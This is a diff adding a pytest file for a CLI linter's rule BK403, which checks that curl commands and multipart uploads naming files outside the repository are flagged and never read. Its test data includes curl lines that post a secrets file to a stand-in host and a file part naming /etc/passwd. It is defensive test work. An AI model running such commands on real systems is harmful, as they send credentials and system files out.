@@ -1,0 +1,135 @@
+"""BK403: lint never reads a file named outside the repository, and says where it is named.
+
+Each test builds a small repository (a folder with ``.git``) beside a secrets file,
+then lints with the real CLI in every format: the file's content never shows, the
+finding points at the ``@file`` (or the ``file`` part), and files inside the
+repository are still read and checked as before.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+from pathlib import Path
+
+import click
+import pytest
+from click.testing import CliRunner, Result
+
+from botkit.cli import main
+
+SECRET = "Ci7SecretQ9zXw2LmR4"
+FORMATS = ["text", "json", "github", "sarif"]
+
+
+def run(*args: str, cwd: Path) -> Result:
+    command = click.Command("botkit", callback=lambda: main(list(args)))
+    old = os.getcwd()
+    os.chdir(cwd)
+    try:
+        return CliRunner().invoke(command, [], catch_exceptions=False)
+    finally:
+        os.chdir(old)
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    (tmp_path / "ci-secrets.json").write_text(json.dumps({"token": SECRET, "x": "Bad Header"}))
+    (tmp_path / "headers.txt").write_text(f"X Not A Header {SECRET}\n")
+    root = tmp_path / "repo"
+    (root / ".git").mkdir(parents=True)
+    (root / "snippets").mkdir()
+    return root
+
+
+OUTSIDE = [
+    "curl -d @../../ci-secrets.json https://h.example/x",
+    "curl --json @../../ci-secrets.json https://h.example/x",
+    "curl -H @../../headers.txt https://h.example/x",
+    "curl -F 'a=<../../ci-secrets.json' https://h.example/x",
+    "curl --data-urlencode 'a@../../ci-secrets.json' https://h.example/x",
+    "curl -T ../../ci-secrets.json https://h.example/x",
+    "curl -d @- https://h.example/x < ../../ci-secrets.json",
+]
+
+
+@pytest.mark.parametrize("command", OUTSIDE)
+def test_an_at_file_outside_the_repository_is_not_read_and_is_flagged(
+    repo: Path, command: str
+) -> None:
+    snippet = repo / "snippets" / "call.sh"
+    snippet.write_text(command + "\n")
+    name_column = command.index("../") + 1
+    word_column = command.rfind(" ", 0, name_column) + 2
+    for fmt in FORMATS:
+        result = run("lint", "--format", fmt, "snippets/call.sh", cwd=repo)
+        assert SECRET not in result.stdout + result.stderr
+        assert "BK403" in result.stdout, result.stdout
+        assert "Traceback" not in result.stdout + result.stderr
+    text = run("lint", "snippets/call.sh", cwd=repo).stdout
+    found = re.search(r"call\.sh:1:(\d+): BK403 reads '\.\./\.\./[a-z-]+\.(?:json|txt)'", text)
+    assert found is not None, text
+    assert word_column <= int(found.group(1)) <= name_column  # at the word naming the file
+
+
+def test_a_link_that_leads_out_of_the_repository_is_outside(repo: Path) -> None:
+    (repo / "snippets" / "body.json").symlink_to(repo.parent / "ci-secrets.json")
+    (repo / "snippets" / "call.sh").write_text("curl -d @body.json https://h.example/x\n")
+    result = run("lint", "snippets/call.sh", cwd=repo)
+    assert "BK403" in result.stdout and SECRET not in result.stdout
+
+
+def test_files_inside_the_repository_are_read_and_checked(repo: Path) -> None:
+    (repo / "snippets" / "body.json").write_text('{"customerPhoneNumber": "12"}')
+    (repo / "snippets" / "call.sh").write_text(
+        "curl -X POST https://public.doubletick.io/team-member/assign "
+        "-H 'Authorization: $DOUBLETICK_API_KEY' -H 'Content-Type: application/json' "
+        "-d @body.json\n"
+    )
+    result = run("lint", "snippets/call.sh", cwd=repo)
+    assert "BK403" not in result.stdout
+    assert "customerPhoneNumber" in result.stdout  # the body was read: its phone is checked
+
+
+def test_a_file_part_leaving_the_repository_is_flagged(repo: Path) -> None:
+    parts = [
+        {"name": "a", "file": "../../ci-secrets.json"},
+        {"name": "b", "file": "/etc/passwd"},
+        {"name": "c", "file": "photo.jpg"},
+        {"name": "d", "file": "{{upload_path}}"},
+    ]
+    component = {
+        "type": "call_api",
+        "name": "Upload",
+        "method": "POST",
+        "url": "https://h.example/upload",
+        "headers": [],
+        "body": {"multipart": parts},
+    }
+    (repo / "upload.json").write_text(json.dumps(component, indent=2))
+    result = run("lint", "--format", "json", "upload.json", cwd=repo)
+    found = [f for f in json.loads(result.stdout) if f["code"] == "BK403"]
+    assert [f["message"] for f in found] == [
+        "the file part '../../ci-secrets.json' is outside the repository",
+        "the file part '/etc/passwd' is outside the repository",
+    ]
+    lines = (repo / "upload.json").read_text().splitlines()
+    assert "ci-secrets" in lines[found[0]["line"] - 1]
+    assert "/etc/passwd" in lines[found[1]["line"] - 1]
+
+
+def test_import_still_reads_the_files_its_user_names(repo: Path) -> None:
+    # As curl does, import reads a name from the folder it runs in.
+    (repo / "snippets" / "call.sh").write_text("curl -d @../ci-secrets.json https://h.example/x\n")
+    result = run("import", "snippets/call.sh", cwd=repo)
+    assert result.exit_code == 0 and SECRET in json.loads(result.stdout)["body"]["text"]
+
+
+def test_a_named_pipe_behind_at_file_is_refused_not_waited_on(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "pipe")
+    (tmp_path / "call.sh").write_text("curl -d @pipe https://h.example/x\n")
+    imported = run("import", "call.sh", cwd=tmp_path)
+    assert imported.exit_code == 2 and "named pipe" in imported.stderr
+    linted = run("lint", "call.sh", cwd=tmp_path)
+    assert linted.exit_code == 1 and "BK402" in linted.stdout and "named pipe" in linted.stdout
